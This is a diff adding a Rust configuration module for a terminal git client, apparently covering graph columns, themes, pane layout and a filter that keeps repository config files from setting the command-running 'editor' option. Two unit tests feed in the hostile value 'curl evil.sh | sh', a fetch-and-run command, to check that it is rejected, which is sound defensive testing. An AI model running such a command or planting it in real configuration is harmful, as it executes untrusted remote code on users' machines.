@@ -0,0 +1,470 @@
+use super::keymap::KeyMap;
+use super::types::FocusedPane;
+use crate::graph::{CommitSort, DateGrouping};
+use crate::theme::Theme;
+use serde::Deserialize;
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+/// A field that can appear in a commit graph row; named in snake_case in the config file
+#[derive(Debug, Clone, Copy, PartialEq, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum GraphColumn {
+    GraphChars,
+    ShortHash,
+    FullHash,
+    Subject,
+    Author,
+    RelativeDate,
+    AbsoluteDate,
+    BranchLabel,
+}
+
+impl GraphColumn {
+    /// Width used when the config file gives a column without `max_width`
+    fn default_width(self) -> usize {
+        match self {
+            GraphColumn::GraphChars => 0,
+            GraphColumn::ShortHash => 7,
+            GraphColumn::FullHash => 40,
+            GraphColumn::Subject => 50,
+            GraphColumn::Author => 20,
+            GraphColumn::RelativeDate => 14,
+            GraphColumn::AbsoluteDate => 16,
+            GraphColumn::BranchLabel => 30,
+        }
+    }
+}
+
+/// A graph row column and the most characters it may take (ignored for `GraphChars`).
+/// In the config file: `{ column = "author", max_width = 16 }`, `max_width` optional.
+#[derive(Debug, Clone, Copy, PartialEq, Deserialize)]
+#[serde(from = "GraphColumnSpecFile")]
+pub struct GraphColumnSpec {
+    pub column: GraphColumn,
+    pub max_width: usize,
+}
+
+impl GraphColumnSpec {
+    pub fn new(column: GraphColumn, max_width: usize) -> Self {
+        Self { column, max_width }
+    }
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct GraphColumnSpecFile {
+    column: GraphColumn,
+    max_width: Option<usize>,
+}
+
+impl From<GraphColumnSpecFile> for GraphColumnSpec {
+    fn from(file: GraphColumnSpecFile) -> Self {
+        Self::new(file.column, file.max_width.unwrap_or_else(|| file.column.default_width()))
+    }
+}
+
+/// User-tunable settings. Defaults reproduce the original hard-coded behavior.
+#[derive(Debug, Clone)]
+pub struct Config {
+    pub confirm_key: char,
+    pub cancel_key: char,
+    pub commit_sort: CommitSort,
+    /// Which pane occupies each layout slot: left-top, left-bottom, right-top, right-bottom
+    pub pane_order: [FocusedPane; 4],
+    /// Columns of each commit graph row, left to right
+    pub graph_row_format: Vec<GraphColumnSpec>,
+    /// Subject length the commit message counter warns about
+    pub max_commit_subject_length: usize,
+    /// Minimum similarity (percent) for a delete/add pair to be shown as a rename
+    pub rename_detection_threshold: u8,
+    /// One row per commit (no edge rows) in the commit graph
+    pub compact_graph: bool,
+    /// Date separator lines between commits from different days, weeks or months
+    pub date_grouping: DateGrouping,
+    /// Changed-line count above which a commit diff is only loaded on request
+    pub large_diff_threshold: usize,
+    /// Commits to load at first, and per batch when scrolling reaches the end, when no `--limit`
+    /// is given; `None` loads everything
+    pub commit_limit: Option<usize>,
+    /// Unchanged lines shown around each diff hunk at startup; `+`/`-` change it and save it back
+    pub diff_context: usize,
+    /// How often watch mode checks the repository for changes, in milliseconds
+    pub auto_refresh_ms: u64,
+    /// Editor command used instead of `$GIT_EDITOR`/`$VISUAL`/`$EDITOR`
+    pub editor: Option<String>,
+    /// Normal-mode key assignments
+    pub keys: KeyMap,
+    /// UI colors
+    pub theme: Theme,
+}
+
+/// The subset of settings read from the config file; missing keys keep their defaults
+#[derive(Debug, Default, Deserialize)]
+#[serde(default)]
+struct ConfigFile {
+    commit_limit: Option<usize>,
+    diff_context: Option<usize>,
+    theme: Option<ThemeSetting>,
+    editor: Option<String>,
+    keybindings: Option<KeyMap>,
+    auto_refresh_ms: Option<u64>,
+    graph_row_format: Option<Vec<GraphColumnSpec>>,
+    pane_order: Option<[FocusedPane; 4]>,
+    confirm_key: Option<char>,
+    cancel_key: Option<char>,
+    large_diff_threshold: Option<usize>,
+    max_commit_subject_length: Option<usize>,
+    commit_sort: Option<CommitSort>,
+    rename_detection_threshold: Option<u8>,
+    compact_graph: Option<bool>,
+    date_grouping: Option<DateGrouping>,
+}
+
+/// `theme = "light"`, or a `[theme]` table when individual colors are overridden too
+#[derive(Debug, Deserialize)]
+#[serde(untagged)]
+enum ThemeSetting {
+    Preset(String),
+    Table(ThemeFile),
+}
+
+/// Settings a repository's `.git_manager.toml` may change. Anything that ends up running a command
+/// (`editor`) stays global-only, so cloning a repository can't make the app execute what it says.
+const REPO_CONFIG_KEYS: &[&str] = &[
+    "commit_limit",
+    "diff_context",
+    "auto_refresh_ms",
+    "pane_order",
+    "confirm_key",
+    "cancel_key",
+    "large_diff_threshold",
+    "max_commit_subject_length",
+    "commit_sort",
+    "rename_detection_threshold",
+    "compact_graph",
+    "date_grouping",
+    "keybindings",
+    "theme",
+];
+
+/// Merge a repository config over `base`, dropping keys outside `REPO_CONFIG_KEYS`
+fn merge_repo_layer(base: &mut toml::Table, mut repo: toml::Table) {
+    repo.retain(|key, _| REPO_CONFIG_KEYS.contains(&key));
+    merge_tables(base, repo);
+}
+
+/// Overlay `overrides` onto `base`, descending into tables present in both
+fn merge_tables(base: &mut toml::Table, overrides: toml::Table) {
+    for (key, value) in overrides {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base_table)), toml::Value::Table(override_table)) => {
+                merge_tables(base_table, override_table);
+            }
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+/// The `[theme]` section: a preset name plus any individual color overrides
+#[derive(Debug, Default, Deserialize)]
+#[serde(default)]
+struct ThemeFile {
+    preset: Option<String>,
+    #[serde(flatten)]
+    colors: HashMap<String, String>,
+}
+
+impl ThemeSetting {
+    fn into_theme(self) -> Result<Theme, String> {
+        match self {
+            ThemeSetting::Preset(name) => ThemeFile { preset: Some(name), colors: HashMap::new() }.into_theme(),
+            ThemeSetting::Table(table) => table.into_theme(),
+        }
+    }
+}
+
+impl ThemeFile {
+    fn into_theme(self) -> Result<Theme, String> {
+        let mut theme = match self.preset.as_deref() {
+            None => Theme::default(),
+            Some(name) => Theme::preset(name).ok_or_else(|| {
+                format!("unknown theme preset '{}' (expected one of: {})", name, Theme::PRESETS.join(", "))
+            })?,
+        };
+
+        for (name, value) in &self.colors {
+            theme.set(name, value)?;
+        }
+
+        Ok(theme)
+    }
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Self {
+            confirm_key: 'y',
+            cancel_key: 'n',
+            commit_sort: CommitSort::Topological,
+            pane_order: [
+                FocusedPane::CommitGraph,
+                FocusedPane::GitActions,
+                FocusedPane::CommitDetails,
+                FocusedPane::GitStatus,
+            ],
+            graph_row_format: vec![
+                GraphColumnSpec::new(GraphColumn::GraphChars, 0),
+                GraphColumnSpec::new(GraphColumn::ShortHash, 7),
+                GraphColumnSpec::new(GraphColumn::Subject, 50),
+            ],
+            max_commit_subject_length: 72,
+            rename_detection_threshold: 50,
+            compact_graph: false,
+            date_grouping: DateGrouping::Off,
+            large_diff_threshold: 5000,
+            commit_limit: Some(2000),
+            diff_context: 3,
+            auto_refresh_ms: 500,
+            editor: None,
+            keys: KeyMap::default(),
+            theme: Theme::default(),
+        }
+    }
+}
+
+impl Config {
+    fn home_dir() -> Option<PathBuf> {
+        std::env::var_os("HOME")
+            .or_else(|| std::env::var_os("USERPROFILE"))
+            .map(PathBuf::from)
+    }
+
+    /// `$XDG_CONFIG_HOME/git_manager/config.toml` (`~/.config/...` by default), or None when
+    /// the home directory is unknown
+    pub fn path() -> Option<PathBuf> {
+        let config_dir = std::env::var_os("XDG_CONFIG_HOME")
+            .filter(|dir| !dir.is_empty())
+            .map(PathBuf::from)
+            .or_else(|| Self::home_dir().map(|home| home.join(".config")))?;
+        Some(config_dir.join("git_manager").join("config.toml"))
+    }
+
+    /// `~/.git_manager.toml`, still read when the new config file doesn't exist yet
+    fn legacy_path() -> Option<PathBuf> {
+        Self::home_dir().map(|home| home.join(".git_manager.toml"))
+    }
+
+    /// Contents of the config file, falling back to the legacy location; None when neither exists
+    fn read_file() -> Result<Option<(PathBuf, String)>, String> {
+        for path in [Self::path(), Self::legacy_path()].into_iter().flatten() {
+            match std::fs::read_to_string(&path) {
+                Ok(contents) => return Ok(Some((path, contents))),
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound => continue,
+                Err(e) => return Err(format!("Failed to read {}: {}", path.display(), e)),
+            }
+        }
+        Ok(None)
+    }
+
+    /// `.git_manager.toml` at the root of the current repository, or None outside a work tree
+    pub fn repo_path() -> Option<PathBuf> {
+        let output = Command::new("git")
+            .args(&["rev-parse", "--show-toplevel"])
+            .output()
+            .ok()
+            .filter(|output| output.status.success())?;
+        let root = String::from_utf8_lossy(&output.stdout).trim().to_string();
+        (!root.is_empty()).then(|| PathBuf::from(root).join(".git_manager.toml"))
+    }
+
+    /// One config file as a table, checked against the settings it may contain so errors name the file
+    fn parse_file(path: &Path, contents: &str) -> Result<toml::Table, String> {
+        let table: toml::Table = toml::from_str(contents)
+            .map_err(|e| format!("Invalid config {}: {}", path.display(), e))?;
+        toml::Value::Table(table.clone())
+            .try_into::<ConfigFile>()
+            .map_err(|e| format!("Invalid config {}: {}", path.display(), e))?;
+        Ok(table)
+    }
+
+    /// Defaults overridden by the global config file, then by the `REPO_CONFIG_KEYS` of the repository's `.git_manager.toml`.
+    /// Tables such as `[keybindings]` merge key by key, so a repo file only lists what it changes.
+    pub fn load() -> Result<Self, String> {
+        let mut config = Self::default();
+        let mut table = match Self::read_file()? {
+            Some((path, contents)) => Self::parse_file(&path, &contents)?,
+            None => toml::Table::new(),
+        };
+
+        if let Some(path) = Self::repo_path() {
+            match std::fs::read_to_string(&path) {
+                Ok(contents) => merge_repo_layer(&mut table, Self::parse_file(&path, &contents)?),
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
+                Err(e) => return Err(format!("Failed to read {}: {}", path.display(), e)),
+            }
+        }
+
+        let file: ConfigFile = toml::Value::Table(table)
+            .try_into()
+            .map_err(|e| format!("Invalid config: {}", e))?;
+
+        if let Some(limit) = file.commit_limit {
+            // 0: the whole history up front
+            config.commit_limit = (limit > 0).then_some(limit);
+        }
+        if let Some(context) = file.diff_context {
+            config.diff_context = context;
+        }
+        if let Some(interval) = file.auto_refresh_ms.filter(|&interval| interval > 0) {
+            config.auto_refresh_ms = interval;
+        }
+        if let Some(editor) = file.editor.filter(|editor| !editor.trim().is_empty()) {
+            config.editor = Some(editor);
+        }
+        if let Some(threshold) = file.large_diff_threshold {
+            config.large_diff_threshold = threshold;
+        }
+        if let Some(length) = file.max_commit_subject_length.filter(|&length| length > 0) {
+            config.max_commit_subject_length = length;
+        }
+        if let Some(sort) = file.commit_sort {
+            config.commit_sort = sort;
+        }
+        if let Some(threshold) = file.rename_detection_threshold {
+            if threshold > 100 {
+                return Err(format!("Invalid rename_detection_threshold: {} is not a percentage", threshold));
+            }
+            config.rename_detection_threshold = threshold;
+        }
+        if let Some(compact) = file.compact_graph {
+            config.compact_graph = compact;
+        }
+        if let Some(grouping) = file.date_grouping {
+            config.date_grouping = grouping;
+        }
+        if let Some(format) = file.graph_row_format {
+            // The lane drawing has to appear exactly once for edge rows to line up under it
+            let graph_columns = format.iter().filter(|spec| spec.column == GraphColumn::GraphChars).count();
+            if graph_columns != 1 {
+                return Err("Invalid graph_row_format: it needs exactly one { column = \"graph_chars\" }".to_string());
+            }
+            config.graph_row_format = format;
+        }
+        if let Some(order) = file.pane_order {
+            // Every slot needs a pane and every pane a slot; the tag list has a fixed place of its own
+            let placed = Self::default().pane_order.iter().all(|pane| order.contains(pane));
+            if !placed {
+                return Err("Invalid pane_order: it needs commit_graph, git_actions, commit_details and git_status once each".to_string());
+            }
+            config.pane_order = order;
+        }
+        if let Some(key) = file.confirm_key {
+            config.confirm_key = key;
+        }
+        if let Some(key) = file.cancel_key {
+            config.cancel_key = key;
+        }
+        // The dialog matches either key case-insensitively
+        if config.confirm_key.eq_ignore_ascii_case(&config.cancel_key) {
+            return Err(format!("Invalid config: confirm_key and cancel_key are both '{}'", config.confirm_key));
+        }
+        if let Some(keys) = file.keybindings {
+            config.keys = keys;
+        }
+        if let Some(theme) = file.theme {
+            config.theme = theme.into_theme()
+                .map_err(|e| format!("Invalid [theme]: {}", e))?;
+        }
+
+        Ok(config)
+    }
+
+    /// Write one top-level setting back to the config file. The file is edited in place, so the
+    /// user's comments, ordering and formatting survive. Settings from the legacy file are carried
+    /// over, so the first save migrates it.
+    pub fn save_setting(key: &str, value: impl Into<toml_edit::Value>) -> Result<(), String> {
+        let path = Self::path().ok_or("no home directory to save the config in")?;
+
+        let mut document = match Self::read_file()? {
+            Some((read_path, contents)) => contents.parse::<toml_edit::DocumentMut>()
+                .map_err(|e| format!("Invalid config {}: {}", read_path.display(), e))?,
+            None => toml_edit::DocumentMut::new(),
+        };
+        match document.get_mut(key).and_then(|item| item.as_value_mut()) {
+            // Keep the comment after the existing value
+            Some(existing) => {
+                let decor = existing.decor().clone();
+                *existing = value.into();
+                *existing.decor_mut() = decor;
+            }
+            None => document[key] = toml_edit::value(value),
+        }
+
+        let contents = document.to_string();
+        if let Some(dir) = path.parent() {
+            std::fs::create_dir_all(dir)
+                .map_err(|e| format!("Failed to create {}: {}", dir.display(), e))?;
+        }
+        std::fs::write(&path, contents)
+            .map_err(|e| format!("Failed to write {}: {}", path.display(), e))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn repo_config_cannot_override_editor() {
+        let mut table: toml::Table = toml::from_str("editor = \"vim\"\ndiff_context = 3").unwrap();
+        let repo: toml::Table = toml::from_str("editor = \"curl evil.sh | sh\"\ndiff_context = 8").unwrap();
+
+        merge_repo_layer(&mut table, repo);
+        let file: ConfigFile = toml::Value::Table(table).try_into().unwrap();
+
+        assert_eq!(file.editor.as_deref(), Some("vim"));
+        assert_eq!(file.diff_context, Some(8));
+    }
+
+    #[test]
+    fn graph_row_format_reads_columns_and_default_widths() {
+        let file: ConfigFile = toml::from_str(
+            "graph_row_format = [{ column = \"graph_chars\" }, { column = \"author\", max_width = 12 }, { column = \"full_hash\" }]",
+        ).unwrap();
+
+        assert_eq!(file.graph_row_format, Some(vec![
+            GraphColumnSpec::new(GraphColumn::GraphChars, 0),
+            GraphColumnSpec::new(GraphColumn::Author, 12),
+            GraphColumnSpec::new(GraphColumn::FullHash, 40),
+        ]));
+    }
+
+    #[test]
+    fn pane_order_reads_pane_names() {
+        let file: ConfigFile = toml::from_str(
+            "pane_order = [\"commit_details\", \"git_actions\", \"commit_graph\", \"git_status\"]",
+        ).unwrap();
+
+        assert_eq!(file.pane_order, Some([
+            FocusedPane::CommitDetails,
+            FocusedPane::GitActions,
+            FocusedPane::CommitGraph,
+            FocusedPane::GitStatus,
+        ]));
+    }
+
+    #[test]
+    fn repo_config_alone_cannot_set_editor() {
+        let mut table = toml::Table::new();
+        let repo: toml::Table = toml::from_str("editor = \"curl evil.sh | sh\"").unwrap();
+
+        merge_repo_layer(&mut table, repo);
+        let file: ConfigFile = toml::Value::Table(table).try_into().unwrap();
+
+        assert_eq!(file.editor, None);
+    }
+}